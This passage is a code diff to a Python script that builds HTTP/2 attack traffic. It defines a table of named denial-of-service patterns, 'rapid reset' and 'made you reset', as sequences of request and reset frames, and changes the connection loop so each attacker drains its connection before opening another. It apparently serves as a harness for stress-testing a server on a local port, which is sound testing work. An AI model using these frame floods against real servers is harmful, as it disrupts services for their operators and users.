@@ -60,7 +60,8 @@ def flood(piece, open_stream=True, count=3000):
 
 WINDOWS = b"".join(struct.pack(">HI", 4, 65535 - number % 2) for number in range(170))
 
-# What each does on a connection, piece by piece; then it opens another one.
+# What each does on a connection, piece by piece. Then it waits for the end of that one, and opens another: there are never more
+# connections than attackers.
 ATTACKS = {
     "rapid reset": streams(lambda stream: frame(1, 5, stream, GET) + frame(3, 0, stream, struct.pack(">I", 8))),
     "made you reset": streams(lambda stream: frame(1, 5, stream, GET) + frame(8, 0, stream, bytes(4))),
@@ -138,6 +139,10 @@ def attack(port, pieces, counted, seconds, yielding):
                     connection.settimeout(0.5)
                     if time.monotonic() > end:
                         break
+                else:
+                    connection.shutdown(socket.SHUT_WR)
+                    while connection.recv(65536):
+                        pass
         except OSError:
             pass
 
